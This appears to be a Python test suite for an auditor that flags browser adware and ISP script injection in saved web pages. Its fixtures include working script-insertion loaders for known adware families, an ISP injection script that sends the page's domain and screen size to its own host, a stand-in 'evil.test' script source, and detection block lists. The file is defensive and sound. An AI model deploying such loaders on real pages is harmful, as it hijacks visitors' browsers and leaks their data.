"""Adware in the browser that saved a page: known injector families (the catalogue's
adware category) and the generic shape (an unknown host's script carrying the page's own
address under a spoilt scheme in its path), with the benign twins that carry a page's
address too (an analytics beacon's query, a web archive's replay, a proxy).

Every page is one we wrote: the domains are made up and nothing is fetched or run.
"""

from __future__ import annotations

import io
import json

import pytest

from auditor.model import Origin, PageReport, Severity, report_networks
from auditor.report import REPORTERS, RunSummary
from tests.terminal import terminal_report

from .conftest import AuditHtml

URL = "https://news.example/2014/12/25/story/"


def page(head: str = "", footer: str = "", after: str = "") -> str:
    """A saved article with code where injectors write: the head, the body's end, and
    after `</html>`."""
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Story</title>
<link rel="canonical" href="{URL}">{head}</head>
<body><main><h1>Story</h1><p>{"Article text a reader came for. " * 12}</p></main>
<script src="https://news.example/js/site.js"></script>
{footer}
</body></html>
{after}"""


def _adware(report: PageReport) -> list[tuple[Severity, str]]:
    return [(f.severity, f.message) for f in report.findings if f.kind == "browser-adware"]


_INJECTOR = ('<script type="text/javascript">(function(){var s=document.createElement('
             '"script");s.type="text/javascript";s.async=true;s.src="//cdn.pagebar.test/30/'
             'xttp://news.example/arg?purl=yes&vdb=23";var x=document.getElementsByTagName('
             '"script")[0];x.parentNode.insertBefore(s,x);})();</script>')


def test_a_defanged_address_on_a_page_of_unknown_address_is_none(audit_html: AuditHtml) -> None:
    """`hxxp://` is how a security writeup quotes an indicator harmlessly; with no page
    address to compare, it cannot be told from the page's own."""
    html = page(footer='<script src="https://cdn.sec.test/ioc/hxxp://evil.test/x.js"></script>'
                ).replace(f'<link rel="canonical" href="{URL}">', "")
    assert _adware(audit_html(html, url=None)) == []


@pytest.mark.parametrize(("where", "family", "detail"), [
    ({"head": '<script id="superfish-script" type="text/javascript" src="http://www.superfish'
              '.com/ws/sf_main.jsp?dlsource=xnotifier&userId=abc123&CTID=SF"></script>'},
     "Superfish", "xnotifier"),
    ({"footer": '<iframe src="http://www.superfish.com/ws/userData.jsp?dlsource=bundlex&amp;'
                'userid=NTBC&amp;ver=13.1.1.62" style="position:absolute;top:-100px"></iframe>'},
     "Superfish", "bundlex"),
    ({"footer": '<script src="https://api.jollywallet.com/affiliate/client?p=16&dist=261&'
                'sub=chrome208"></script>'}, "Jollywallet", "261"),
    ({"after": '<script src="//servedby.dealply.com/dealdo/setcck?key0=a&value0=b"></script>'},
     "DealPly", "servedby.dealply.com"),
])
def test_known_injector_family_is_high_and_named(audit_html: AuditHtml, where: dict[str, str],
                                                 family: str, detail: str) -> None:
    found = _adware(audit_html(page(**where), url=URL))
    assert len(found) == 1
    severity, message = found[0]
    assert severity is Severity.HIGH
    assert f"adware in the browser that saved the page: {family}" in message
    assert detail in message


def test_an_injectors_hidden_frame_is_one_finding(audit_html: AuditHtml) -> None:
    report = audit_html(page(footer='<iframe src="http://www.superfish.com/ws/userData.jsp?'
                                    'dlsource=bundlex" style="position:absolute;top:-100px">'
                                    '</iframe>'), url=URL)
    assert [f.kind for f in report.findings] == ["browser-adware"]


def test_an_injectors_own_site_is_none(audit_html: AuditHtml) -> None:
    html = page(head='<script src="https://www.superfish.com/ws/sf_main.jsp?dlsource=site">'
                     '</script>').replace("news.example", "www.superfish.com")
    assert _adware(audit_html(html, url="https://www.superfish.com/2014/story/")) == []


def test_spoilt_page_address_in_an_unknown_scripts_path_is_medium(audit_html: AuditHtml) -> None:
    found = _adware(audit_html(page(footer=_INJECTOR), url=URL))
    assert [s for s, _ in found] == [Severity.MEDIUM]
    assert "cdn.pagebar.test" in found[0][1] and "news.example" in found[0][1]


def test_the_shape_outside_the_markup_is_high_and_one_finding(audit_html: AuditHtml) -> None:
    report = audit_html(page(after='<script src="http://cdn.pagebar.test/30/hxxp://news.'
                                   'example/arg?purl=yes"></script>'), url=URL)
    assert [s for s, _ in _adware(report)] == [Severity.HIGH]
    assert not [f for f in report.findings if f.kind == "appended-script"]


@pytest.mark.parametrize("footer", [
    # an analytics beacon: the page's address in the query
    '<script src="https://stats.pagebar.test/hit.js?u=xttp://news.example/2014/"></script>',
    # a web archive's replay and a proxy keep the scheme as it was
    '<script src="https://replay.test/web/20141225000000js_/http://news.example/js/a.js">'
    '</script>',
    '<script src="https://proxy.test/browse/https://news.example/js/a.js"></script>',
    # another site's address under a spoilt scheme is not the page's own
    '<script src="https://cdn.pagebar.test/30/xttp://other.test/arg"></script>',
    # a script path that merely holds a word ending in "ttp"
    '<script src="https://cdn.pagebar.test/lib/http:/news.example/x.js"></script>',
])
def test_a_pages_address_carried_otherwise_is_none(audit_html: AuditHtml, footer: str) -> None:
    assert _adware(audit_html(page(footer=footer), url=URL)) == []


def test_spoilt_address_on_a_page_of_unknown_address(audit_html: AuditHtml) -> None:
    html = page(footer=_INJECTOR).replace(f'<link rel="canonical" href="{URL}">', "")
    assert [s for s, _ in _adware(audit_html(html, url=None))] == [Severity.MEDIUM]


@pytest.mark.parametrize("footer", [
    # an article about Superfish showing its logo, hotlinked from the family's site
    '<p>Lenovo shipped Superfish.</p><img src="http://www.superfish.com/images/logo.png" '
    'alt="Superfish">',
    # a connection hint requests nothing
    '<link rel="preconnect" href="https://servedby.dealply.com">',
    # a cleaner's or a detector's list names the hosts; it loads none of them
    '<script>var blocked=["http://www.superfish.com/ws/sf_main.jsp","https://servedby.dealply'
    '.com/dealdo/setcck"];function isAdware(u){return blocked.some(function(b){return '
    'u.indexOf(b)>=0})}</script>',
    # ...its script among them, by name
    '<script>var blocked=["https://servedby.dealply.com/dealdo/x.js"];function isAdware(u){'
    'return blocked.indexOf(u)>=0}</script>',
])
def test_a_family_named_but_not_loaded_as_code_is_none(audit_html: AuditHtml,
                                                       footer: str) -> None:
    assert _adware(audit_html(page(footer=footer), url=URL)) == []


def test_a_familys_loader_an_inline_script_inserts_is_high(audit_html: AuditHtml) -> None:
    footer = ('<script>(function(){var s=document.createElement("script");s.src="//servedby.'
              'dealply.com/dealdo/setcck?key0=a";document.body.appendChild(s);})();</script>')
    assert [s for s, _ in _adware(audit_html(page(footer=footer), url=URL))] == [Severity.HIGH]


@pytest.mark.parametrize("written", [
    # the injector's tag and the page run together, before the doctype on `<html>`'s line
    '<script src="http://cdn.pagebar.test/30/hxxp://news.example/arg?purl=yes"></script>{page}',
    '<script src="http://cdn.pagebar.test/30/hxxp://news.example/arg?purl=yes"></script>\n{page}',
])
def test_the_shape_before_the_doctype_is_high(audit_html: AuditHtml, written: str) -> None:
    html = written.format(page=page().replace("<!DOCTYPE html>\n<html>", "<!DOCTYPE html><html>"))
    report = audit_html(html, url=URL)
    assert [s for s, _ in _adware(report)] == [Severity.HIGH]
    assert not [f for f in report.findings if f.kind == "appended-script"]


@pytest.mark.parametrize("loader", [
    '<script id="superfish-script" src="http://www.superfish.com/ws/sf_main.jsp?dlsource=pcm'
    '&userId=u1&CTID=SF"></script>',
    '<script src="https://api.jollywallet.com/affiliate/client?p=16&dist=261&sub=c"></script>',
])
def test_an_injectors_distribution_number_joins_no_sites(audit_html: AuditHtml,
                                                         loader: str) -> None:
    """Every browser the same bundle infected carries its number: two unrelated sites saved
    by two such browsers are not one operator."""
    from auditor.bulk.aggregate import clusters

    edges = []
    for site in ("news.example", "shop.example"):
        url = f"https://{site}/2014/story/"
        report = audit_html(page(head=loader).replace("news.example", site), url=url)
        ids = [i for i in report.ids if i.network in ("Superfish", "Jollywallet")]
        assert ids  # the finding names it
        edges += [(i.kind, i.value, i.network, site) for i in ids]
    assert clusters(edges) == []


_SUPERFISH = ('<script id="superfish-script" src="http://www.superfish.com/ws/sf_main.jsp?'
              'dlsource=pcm&userId=u&lt;b&gt;1&CTID=SF"></script>')


def test_a_distribution_number_is_the_adwares_not_the_operators(audit_html: AuditHtml) -> None:
    """The bundle that infected the saving browser set it: `origin` says adware, `why` says
    whose, and like a look-alike's ID it makes no network the page's (the gate judges none
    by it)."""
    report = audit_html(page(head=_SUPERFISH), url=URL)
    [ident] = [i for i in report.ids if i.network == "Superfish"]
    assert (ident.value, ident.origin) == ("pcm", Origin.ADWARE)
    assert "Superfish adware in the browser that saved the page" in (ident.why or "")
    assert report_networks((), (), report.ids) == {}
    listed = json.loads(json.dumps(report.to_dict()))
    assert {"value": "pcm", "origin": "adware"}.items() <= next(
        i for i in listed["ids"] if i["network"] == "Superfish").items()


def _rendered(fmt: str, report: PageReport) -> str:
    buffer = io.StringIO()
    reporter = REPORTERS[fmt](buffer, "test", False)
    reporter.start([])
    reporter.handle(report, [])
    reporter.finished(RunSummary(1, 0, 0, 0, False, True))
    return buffer.getvalue()


def test_every_output_says_whose_the_distribution_number_is(audit_html: AuditHtml) -> None:
    """Terminal and HTML list it as the adware's (the page's markup escaped); SARIF names it
    in the finding and never among the IDs copied from a source."""
    report = audit_html(page(head=_SUPERFISH), url=URL)
    text = terminal_report(report)
    assert "pcm (adware: Superfish adware in the browser that saved the page" in text
    html = _rendered("html", report)
    assert "adware: Superfish adware in the browser that saved the page" in html
    assert "u<b>1" not in html and "u&lt;b&gt;1" in html
    sarif = json.loads(_rendered("sarif", report))
    results = sarif["runs"][0]["results"]
    assert any("distribution pcm" in r["message"]["text"] for r in results
               if r["ruleId"] == "browser-adware")
    pages = sarif["runs"][0]["properties"].get("provenance", [])
    assert not any(p["copiedIds"] for p in pages)


# the root element Give Freely's SDK, bundled into browser add-ons, writes at the end of
# every page's body (a page written for this test; the add-on's ID made up)
_GIVE_FREELY = ('<div id="give-freely-root-abcdefghijklmnopabcdefghijklmnop" '
                'class="give-freely-root" data-extension-id="abcdefghijklmnopabcdefghijklmnop" '
                'data-extension-name="Tab Tidy" style="display: block;"><template '
                'shadowrootmode="open"><style>:host { all: initial; }</style><div>'
                '<div class="gf-app"></div></div></template></div>')


def test_an_add_ons_monetisation_sdk_root_is_medium(audit_html: AuditHtml) -> None:
    report = audit_html(page(footer=_GIVE_FREELY), URL)
    found = [f for f in report.findings if f.kind == "browser-adware"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    assert "Give Freely" in found[0].message and "Tab Tidy" in found[0].message


@pytest.mark.parametrize("markup", [
    # an add-on's own widget carrying its ID sells nothing
    '<div id="tt-popup" data-extension-id="abcdefghijklmnopabcdefghijklmnop"></div>',
    # the SDK's class without an add-on's ID: a site's own element of that name
    '<div class="give-freely-root" id="give-freely-root-x"></div>',
])
def test_other_add_on_markup_is_none(audit_html: AuditHtml, markup: str) -> None:
    report = audit_html(page(footer=markup), URL)
    assert not [f for f in report.findings if f.kind == "browser-adware"]


# an add-on's content script as a saving browser leaves it in the DOM (IDs made up but
# for Selenium IDE's, whose Web Store ID is public)
_ADDON = "abcdefghijklmnopabcdefghijklmnop"
_ADDON_SCRIPT = f'<script src="chrome-extension://{_ADDON}/assets/hook.js"></script>'


def _extension(report: PageReport) -> list[tuple[Severity, str]]:
    return [(f.severity, f.message) for f in report.findings
            if f.kind == "browser-extension-script"]


@pytest.mark.parametrize(("where", "named"), [
    ({"head": _ADDON_SCRIPT}, _ADDON),
    ({"footer": _ADDON_SCRIPT + _ADDON_SCRIPT.replace("hook.js", "other.js")}, _ADDON),
    ({"head": '<script src="chrome-extension://mooikfkahbdckldjjndioackbalphokd/assets/'
              'prompt.js"></script>'}, "Selenium IDE"),
])
def test_an_add_ons_script_in_the_saved_dom_is_low(audit_html: AuditHtml,
                                                    where: dict[str, str], named: str) -> None:
    found = _extension(audit_html(page(**where), URL))
    assert len(found) == 1, found
    assert found[0][0] is Severity.LOW and named in found[0][1]


@pytest.mark.parametrize("markup", [
    # the words in prose, a <pre>, a comment, a script's string, a link
    f"<p>Our add-on loads chrome-extension://{_ADDON}/assets/hook.js in every tab.</p>",
    f"<pre>&lt;script src=\"chrome-extension://{_ADDON}/assets/hook.js\"&gt;</pre>",
    f"<!-- <script src=\"chrome-extension://{_ADDON}/assets/hook.js\"></script> -->",
    f"<script>var u = \"chrome-extension://{_ADDON}/assets/hook.js\";</script>",
    f'<a href="chrome-extension://{_ADDON}/options.html">options</a>',
    # no add-on's ID: too short, letters past p, a look-alike scheme
    '<script src="chrome-extension://abcdefghijklmnop/assets/hook.js"></script>',
    '<script src="chrome-extension://abcdefghijklmnopqrstuvwxyzabcdefg/hook.js"></script>',
    f'<script src="https://cdn.example/chrome-extension://{_ADDON}/hook.js"></script>',
])
def test_the_scheme_outside_a_scripts_address_is_none(audit_html: AuditHtml,
                                                       markup: str) -> None:
    assert _extension(audit_html(page(footer=markup), URL)) == []


def test_an_ad_sdks_add_on_keeps_its_stronger_finding_alone(audit_html: AuditHtml) -> None:
    script = f'<script src="chrome-extension://{_ADDON}/content.js"></script>'
    report = audit_html(page(head=script, footer=_GIVE_FREELY), URL)
    assert _extension(report) == []
    assert [f.severity for f in report.findings if f.kind == "browser-adware"] == [
        Severity.MEDIUM]


def _in_transit(host: str = "cfs2.uzone.id", path: str = "7xk2qa") -> str:
    """An ISP's in-transit injection as Telkom Indonesia writes it before `</body>`: its
    function builds a request to its host and appends it as a script (written after the
    form, with a made-up path, key and blob)."""
    return (
        '<script type="text/javascript">if (self==top) {function netbro_cache_analytics(fn, '
        'callback) {setTimeout(function() {fn();callback();}, 0);}function sync(fn) {fn();}'
        'function requestCfs(){var idc_glo_url = (location.protocol=="https:" ? "https://" : '
        '"http://");var idc_glo_r = Math.floor(Math.random()*99999999999);var url = '
        f'idc_glo_url+ "{host}/{path}/request" + "?id=1" + "&enc=Qx7Tz0aB" + "&params=" + '
        '"Zm9vYmFyYmF6cXV4%2fZm9vYmFy" + "&idc_r="+idc_glo_r + "&domain="+document.domain + '
        '"&sw="+screen.width+"&sh="+screen.height;var bsa = document.createElement(\'script\');'
        "bsa.type = 'text/javascript';bsa.async = true;bsa.src = url;(document."
        "getElementsByTagName('head')[0]||document.getElementsByTagName('body')[0])."
        "appendChild(bsa);}netbro_cache_analytics(requestCfs, function(){});};</script>")


@pytest.mark.parametrize("host", ["cfs2.uzone.id", "cfs.uzone.id", "p01.notifa.info",
                                  "cfs.u-ad.info"])
def test_an_isps_in_transit_injection_is_medium_at_its_script(audit_html: AuditHtml,
                                                               host: str) -> None:
    """The code an ISP wrote into a plain-HTTP page (Telkom Indonesia's `requestCfs`)
    requests nothing until it runs: its own code names it, at its script's line."""
    html = page(footer="\n\n" + _in_transit(host))
    report = audit_html(html, url=URL)
    [found] = [f for f in report.findings if f.kind == "browser-adware"]
    assert found.severity is Severity.MEDIUM
    assert "Telkom Indonesia (uzone.id)" in found.message and "in-transit" in found.message
    assert found.line == html.splitlines().index(_in_transit(host)) + 1
    assert "Telkom Indonesia (uzone.id)" in {n.network for n in report.networks}


def test_an_in_transit_injection_beside_a_detector_quoting_it_is_still_read(
        audit_html: AuditHtml) -> None:
    """A page's detector quoting the code in a string, and the injection itself after it:
    the finding cites the code that runs."""
    quoting = ("<script>var blocked = [`" + _in_transit().split(">", 1)[1].split(
        "</script>")[0] + "`];</script>")
    html = page(head=quoting, footer="\n\n" + _in_transit())
    [found] = [f for f in audit_html(html, url=URL).findings if f.kind == "browser-adware"]
    assert found.severity is Severity.MEDIUM
    assert found.line == html.splitlines().index(_in_transit()) + 1


def test_an_in_transit_injection_after_a_script_cut_in_its_string_is_still_read(
        audit_html: AuditHtml) -> None:
    """A page's script the parser cut inside a template literal (its `</script>` written
    in the literal ends the element) leaves that string open: each script is its own
    text, so the injection after it is code, not the rest of that string."""
    cut = "<script>var tag = `<script src=/a.js></script>\n<p>Ferry times</p>\n"
    html = page(head=cut, footer="\n\n" + _in_transit())
    [found] = [f for f in audit_html(html, url=URL).findings if f.kind == "browser-adware"]
    assert found.severity is Severity.MEDIUM
    assert found.line == html.splitlines().index(_in_transit()) + 1


@pytest.mark.parametrize("footer", [
    # a site's stub disarming the injection ("menonaktifkan inject telkom")
    "<script>if (self==top) {\nfunction netbro_cache_analytics(fn, callback) {}\n"
    "function sync(fn) {}\nfunction requestCfs(){}\n}</script>",
    # the same code towards a look-alike host, or a host under the portal's name
    _in_transit("cfs2.uzone.id.evil.test"),
    _in_transit("notcfs2.uzone.id"),
    _in_transit("news.uzone.id"),
    # the words in prose, a <pre> quoting the code, an HTML comment keeping it
    "<p>Telkom's injected requestCfs() calls cfs2.uzone.id/2fn7a2/request on every page.</p>",
    "<pre>" + _in_transit().replace("<", "&lt;") + "</pre>",
    "<!-- " + _in_transit() + " -->",
    # the portal's own image
    '<img src="https://img.uzone.id/news/2017/08/cover.jpg" alt="">',
    # the code quoted in a page's own script's strings: a detector that looks for it in
    # the page (a single-quoted string, its quotes escaped), and a blocklist's entry (a
    # template literal): code in a string runs nothing
    "<script>var injected = '" + _in_transit().split(">", 1)[1].split("</script>")[0]
    .replace("'", "\\'") + "'; if (document.documentElement.innerHTML.indexOf(injected) "
    "> -1) { document.title = 'ISP injection found'; }</script>",
    "<script>var blocked = [`" + _in_transit().split(">", 1)[1].split("</script>")[0]
    + "`];</script>",
])
def test_an_in_transit_look_alike_is_none(audit_html: AuditHtml, footer: str) -> None:
    report = audit_html(page(footer=footer), url=URL)
    assert _adware(report) == []
    assert "Telkom Indonesia (uzone.id)" not in {n.network for n in report.networks}
